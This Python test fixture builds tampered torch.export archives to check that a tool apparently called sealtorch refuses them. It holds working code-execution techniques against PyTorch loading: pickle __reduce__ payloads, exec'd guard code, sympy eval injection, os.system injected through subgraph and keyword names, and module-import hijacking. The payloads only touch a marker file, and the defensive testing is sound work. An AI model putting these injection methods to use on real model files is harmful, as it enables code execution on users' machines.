"""Hostile ``torch.export`` archives: each would run code (touch a marker file) if PyTorch
loaded it and ran the module, as the comments say. Used by the payload, API, CLI and serving
tests, which check that sealtorch refuses every one and the marker never appears.

Each builder edits an archive that ``torch.export.save`` wrote for a small program, the way an
attacker would; ``python hostile_programs.py`` shows which of them PyTorch alone falls for.
"""

from __future__ import annotations

import io
import json
import os
import pathlib
import pickle  # noqa: TID251 - writes hostile pickles, never loads one
import zipfile
from collections.abc import Callable
from typing import Any

import torch

#: Set for the tests' subprocesses: where :mod:`marker_module` writes when it is imported.
MARKER_ENV = "SEALTORCH_TEST_MARKER"


class Touch:
    """Unpickling this touches ``path`` (what any pickle can do: call a global with args)."""

    def __init__(self, path: pathlib.Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (pathlib.Path.touch, (pathlib.Path(self.path),))


class WithConstant(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.linear = torch.nn.Linear(4, 3)
        self.offset = torch.tensor([1.0, 2.0, 3.0])  # a tensor constant (data/constants/)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.linear(x) + self.offset


class Halves(torch.nn.Module):
    """Dynamic batch with a derived dimension: the archive has symbolic sizes and guards."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        half = x.shape[0] // 2
        return x[:half] * 2


class Branches(torch.nn.Module):
    """A torch.cond: the archive has subgraphs (named graph arguments)."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.cond(x.sum() > 0, lambda t: t * 2, lambda t: t - 1, (x,))


class Scaled(torch.nn.Module):
    """A keyword argument: its name is in the archive's input structure (in_spec)."""

    def forward(self, x: torch.Tensor, *, scale: torch.Tensor) -> torch.Tensor:
        return x * scale


def exported(kind: str = "constant") -> torch.export.ExportedProgram:
    if kind == "dynamic":
        half = torch.export.Dim("half", min=2, max=32)
        return torch.export.export(
            Halves().eval(), (torch.randn(8, 3),), dynamic_shapes=({0: 2 * half},)
        )
    if kind == "branches":
        return torch.export.export(Branches().eval(), (torch.randn(3),))
    if kind == "keywords":
        return torch.export.export(Scaled().eval(), (torch.randn(3),), {"scale": torch.ones(3)})
    torch.manual_seed(0)
    return torch.export.export(WithConstant().eval(), (torch.randn(2, 4),))


def archive_bytes(kind: str = "constant") -> bytes:
    buffer = io.BytesIO()
    torch.export.save(exported(kind), buffer)
    return buffer.getvalue()


def rewrite(
    data: bytes,
    edit: Callable[[dict[str, bytes]], None],
) -> bytes:
    """The archive with its entries (names relative to the root folder) edited."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        names = source.namelist()
        root = names[0].split("/", 1)[0]
        entries = {name.split("/", 1)[1]: source.read(name) for name in names}
    edit(entries)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, content in entries.items():
            target.writestr(f"{root}/{name}", content)
    return out.getvalue()


def _edit_json(entries: dict[str, bytes], name: str, edit: Callable[[Any], None]) -> None:
    document = json.loads(entries[name])
    edit(document)
    entries[name] = json.dumps(document).encode()


def _torch_pickle(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


CONSTANTS = "data/constants/model_constants_config.json"
MODEL = "models/model.json"


def pickled_constant(marker: pathlib.Path) -> bytes:
    """A constant marked ``use_pickle``: PyTorch runs torch.load(weights_only=False) on it."""

    def edit(entries: dict[str, bytes]) -> None:
        def mark(config: Any) -> None:
            config["config"]["offset"]["use_pickle"] = True

        _edit_json(entries, CONSTANTS, mark)
        entries["data/constants/tensor_0"] = _torch_pickle(Touch(marker))

    return rewrite(archive_bytes(), edit)


def opaque_object(marker: pathlib.Path) -> bytes:
    """An opaque object constant: PyTorch runs pickle.loads on it."""

    def edit(entries: dict[str, bytes]) -> None:
        def mark(config: Any) -> None:
            config["config"]["offset"]["path_name"] = "opaque_obj_0"
            config["config"]["offset"]["use_pickle"] = True

        _edit_json(entries, CONSTANTS, mark)
        entries["data/constants/opaque_obj_0"] = pickle.dumps(Touch(marker))

    return rewrite(archive_bytes(), edit)


def pickled_sample_inputs(marker: pathlib.Path) -> bytes:
    """Sample inputs the weights-only unpickler refuses: PyTorch then unpickles them fully."""

    def edit(entries: dict[str, bytes]) -> None:
        entries["data/sample_inputs/model.pt"] = _torch_pickle(((Touch(marker),), {}))

    return rewrite(archive_bytes(), edit)


def legacy_pickled_weights(marker: pathlib.Path) -> bytes:
    """The legacy weight file ``data/weights/model.pt``: a pickle PyTorch still reads."""

    def edit(entries: dict[str, bytes]) -> None:
        entries["data/weights/model.pt"] = _torch_pickle(Touch(marker))

    return rewrite(archive_bytes(), edit)


def guard_code(marker: pathlib.Path) -> bytes:
    """An input guard is Python source: ExportedProgram.module() exec()s it, calls run it."""

    def edit(entries: dict[str, bytes]) -> None:
        def add(program: Any) -> None:
            program["guards_code"] = [
                f"__import__('pathlib').Path({str(marker)!r}).touch() is None"
            ]

        _edit_json(entries, MODEL, add)

    return rewrite(archive_bytes(), edit)


def sympy_expression(marker: pathlib.Path) -> bytes:
    """A symbolic size is parsed with sympy.sympify, which eval()s it - at torch.export.load."""

    def edit(entries: dict[str, bytes]) -> None:
        text = entries[MODEL].decode()
        symbol = text.split('"expr_str": "', 1)[1].split('"', 1)[0]
        payload = f"{symbol} + 0*len(str(__import__('pathlib').Path({str(marker)!r}).touch()))"
        entries[MODEL] = text.replace(f'"{symbol}"', json.dumps(payload), 1).encode()

    return rewrite(archive_bytes("dynamic"), edit)


def imported_function(module: str) -> bytes:
    """A node calling torch.export.custom_ops._call_custom_autograd_function_in_pre_dispatch,
    which imports ``module`` and calls its ``Evil.apply`` on every call of the model."""

    def edit(entries: dict[str, bytes]) -> None:
        def add(program: Any) -> None:
            graph = program["graph_module"]["graph"]
            graph["tensor_values"]["evil"] = graph["tensor_values"]["x"]
            graph["nodes"].insert(
                0,
                {
                    "target": "torch.export.custom_ops."
                    "_call_custom_autograd_function_in_pre_dispatch",
                    "inputs": [
                        {"name": "name", "arg": {"as_string": f"{module}.Evil"}, "kind": 1},
                        {"name": "x", "arg": {"as_tensor": {"name": "x"}}, "kind": 1},
                    ],
                    "outputs": [{"as_tensor": {"name": "evil"}}],
                    "metadata": {},
                    "is_hop_single_tensor_return": None,
                    "name": "evil",
                },
            )

        _edit_json(entries, MODEL, add)

    return rewrite(archive_bytes(), edit)


def subgraph_name(marker: pathlib.Path) -> bytes:
    """A subgraph whose name carries Python source: torch.fx writes names into the code it
    generates for the module (``getattr(self, "NAME")``) and exec()s. (``marker`` must not
    contain a dot: PyTorch refuses module names with dots.)"""
    code = (
        f'false_graph_0");getattr(__import__("os"),"system")("touch {marker}");'
        'getattr(self,"false_graph_0'
    )

    def edit(entries: dict[str, bytes]) -> None:
        text = entries[MODEL].decode()
        entries[MODEL] = text.replace('"true_graph_0"', json.dumps(code)).encode()

    return rewrite(archive_bytes("branches"), edit)


def keyword_name(marker: pathlib.Path) -> bytes:
    """A keyword name carrying Python source: torch.fx writes the names of the input structure
    into the forward code it generates (``{'NAME': scale}``) and exec()s."""
    name = f"scale':getattr(__import__('os'),'system')('touch {marker}'),'x"

    def edit(entries: dict[str, bytes]) -> None:
        def rename(program: Any) -> None:
            for entry in program["graph_module"]["module_call_graph"]:
                signature = entry.get("signature")
                if signature:
                    text = signature["in_spec"]
                    signature["in_spec"] = text.replace(
                        json.dumps(json.dumps(["scale"])), json.dumps(json.dumps([name]))
                    )

        _edit_json(entries, MODEL, rename)

    return rewrite(archive_bytes("keywords"), edit)


def native_code() -> bytes:
    """An AOTInductor package: PyTorch would dlopen the shared library in it."""

    def edit(entries: dict[str, bytes]) -> None:
        entries["data/aotinductor/model/model.so"] = b"\x7fELF not really"

    return rewrite(archive_bytes(), edit)


def twin_entries() -> bytes:
    """Two entries whose names differ only in case: PyTorch's reader looks names up without
    case, so it could read another file than the one a checker read."""
    data = archive_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        root = source.namelist()[0].split("/", 1)[0]
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as target:
        target.writestr(f"{root}/models/MODEL.json", b"{}")
    return out.getvalue()


def seal_raw(path: pathlib.Path, payload: bytes, *, kind: str, key: Any) -> pathlib.Path:
    """Seal ``payload`` as it is (no checks: what a key holder can always write)."""
    from sealtorch.payloads.manifest import Manifest
    from sealtorch.sealed.keywrap import LocalKeyWrapper
    from sealtorch.sealed.writer import SealedWriter

    manifest = Manifest.build(kind=kind, payload_size=len(payload))
    plaintext = manifest.encode_prefix() + payload
    with SealedWriter(
        path,
        model_id="hostile",
        plaintext_size=len(plaintext),
        wrapper=LocalKeyWrapper(key, key_version=1),
    ) as writer:
        writer.write(plaintext)
    return path


#: name -> builder(marker, marker module name) for the parametrised tests.
HOSTILE: dict[str, Callable[[pathlib.Path, str], bytes]] = {
    "pickled constant": lambda marker, module: pickled_constant(marker),
    "opaque object": lambda marker, module: opaque_object(marker),
    "pickled sample inputs": lambda marker, module: pickled_sample_inputs(marker),
    "legacy pickled weights": lambda marker, module: legacy_pickled_weights(marker),
    "guard code": lambda marker, module: guard_code(marker),
    "sympy expression": lambda marker, module: sympy_expression(marker),
    "imported function": lambda marker, module: imported_function(module),
    "subgraph name": lambda marker, module: subgraph_name(marker),
    "keyword name": lambda marker, module: keyword_name(marker),
    "native code": lambda marker, module: native_code(),
    "twin entries": lambda marker, module: twin_entries(),
}


def main() -> None:  # pragma: no cover - a demonstration, not a test
    """Show which archives PyTorch alone (torch.export.load, .module(), a call) falls for."""
    import tempfile
    import warnings

    warnings.simplefilter("ignore")
    with tempfile.TemporaryDirectory() as directory:
        os.environ[MARKER_ENV] = str(pathlib.Path(directory) / "imported")
        for name, build in HOSTILE.items():
            marker = pathlib.Path(directory) / name.replace(" ", "-")
            path = pathlib.Path(directory) / "program.pt2"
            path.write_bytes(build(marker, "marker_module"))
            try:
                module = torch.export.load(path).module()
                args, kwargs = exported(_input_kind(name)).example_inputs
                module.forward(*args, **kwargs)  # the code torch.fx generated
                outcome = "loaded and ran"
            except Exception as exc:  # noqa: BLE001 - a demonstration
                outcome = f"{type(exc).__name__}"
            touched = marker.exists() or pathlib.Path(os.environ[MARKER_ENV]).exists()
            print(f"{name:24} {'RAN CODE' if touched else 'no code ran':12} ({outcome})")
            pathlib.Path(os.environ[MARKER_ENV]).unlink(missing_ok=True)


def _input_kind(name: str) -> str:
    kinds = {"sympy expression": "dynamic", "subgraph name": "branches", "keyword name": "keywords"}
    return kinds.get(name, "constant")


if __name__ == "__main__":  # pragma: no cover
    main()
